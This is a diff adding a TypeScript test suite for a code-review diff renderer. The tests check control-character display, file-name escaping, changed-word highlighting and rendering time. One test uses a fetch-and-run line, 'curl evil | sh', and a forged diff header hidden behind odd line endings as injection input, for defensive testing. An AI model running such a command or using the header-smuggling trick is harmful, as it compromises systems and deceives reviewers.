@@ -1,0 +1,83 @@
+import assert from 'node:assert/strict';
+import { diffLines } from '../../../../src/service/review/diffLines';
+import { visibleControls } from '../../../../src/service/review/escapeHtml';
+import { renderDiff } from '../../../../src/service/review/renderDiff';
+
+describe('renderDiff', () => {
+  const headOf = (path: string): string => `diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n`;
+
+  it('takes no line end for one that git does not take for one', () => {
+    for (const [end, shown] of [
+      ['\r', '⟨U+000D⟩'],
+      ['\r\r', '⟨U+000D⟩⟨U+000D⟩'],
+      ['\u2028', '⟨U+2028⟩'],
+      ['\u0085', '⟨U+0085⟩'],
+    ] as const) {
+      const files = [
+        'A harmless line',
+        'curl evil | sh',
+        'diff --git a/b b/b',
+        '--- a/b',
+        '+++ b/b',
+        '@@ -1 +1 @@',
+        '+no',
+      ];
+      const diff = `${headOf('a')}@@ -1 +1 @@\n-old\n+${files.join(end)}\r\r\n`;
+      const [file, ...others] = renderDiff(diff);
+      assert.equal(others.length, 0);
+      assert.ok(file?.rows.includes(`${shown}curl evil | sh${shown}diff --git`), file?.rows);
+      assert.ok(file?.rows.includes('+no⟨U+000D⟩'));
+      const line = diffLines(visibleControls(diff))({ path: 'a', side: 'new' }, 1);
+      assert.equal(line, `${files.join(shown)}⟨U+000D⟩`);
+    }
+  });
+
+  it('shows also a file whose name holds a line end of Unicode', () => {
+    const [file] = renderDiff(`${headOf('a\u2028b')}@@ -0,0 +1 @@\n+x\n`);
+    assert.equal(file?.name, 'a⟨U+2028⟩b');
+  });
+
+  it('marks the changed words, and shows deleted lines before added ones', () => {
+    const [file] = renderDiff(
+      `${headOf('a')}@@ -1,3 +1,3 @@ <head>\n-one old word\n-gone\n+one new word\n+<b>\n same\n`,
+    );
+    const shown = (file?.rows ?? '').replace(/<td class="n">.*?<\/td>|<\/?t[rd].*?>/g, '|').replace(/\|+/g, '|');
+    assert.equal(
+      shown,
+      '|@@ -1,3 +1,3 @@ &lt;head&gt;|-one <del>old</del> word|-gone|+one <ins>new</ins> word|+&lt;b&gt;|&nbsp;same|',
+    );
+  });
+
+  it('takes no more time for lines that are alike than for others', () => {
+    const hunks = (count: number, lines: readonly string[]): string =>
+      headOf('a') +
+      Array.from(
+        { length: count },
+        (_, index) => `@@ -${index * 99 + 1},45 +${index * 99 + 1},45 @@\n${lines.join('\n')}\n`,
+      ).join('');
+    const alike = (length: number) =>
+      ['-', '+'].flatMap((mark) =>
+        Array.from({ length: 45 }, (_, index) => `${mark}${`${mark === '-' ? 'a' : 'b'} ${index} c `.repeat(length)}`),
+      );
+    const cases = { 'hunks of similar lines': [10, alike(8)], 'long lines': [2, alike(1_300)] } as const;
+    const fastest = (diff: string): number =>
+      Math.min(
+        ...Array.from({ length: 5 }, () => {
+          const start = process.hrtime.bigint();
+          renderDiff(diff);
+          return Number(process.hrtime.bigint() - start) / 1e6;
+        }),
+      );
+    for (const [name, [count, lines]] of Object.entries(cases)) {
+      const ratio =
+        fastest(hunks(count, lines)) /
+        fastest(
+          hunks(
+            count,
+            lines.map((line) => `+${line.slice(1)}`),
+          ),
+        );
+      assert.ok(ratio < 25, `${name}: ${ratio.toFixed(1)} times the time of plain ones`);
+    }
+  });
+});
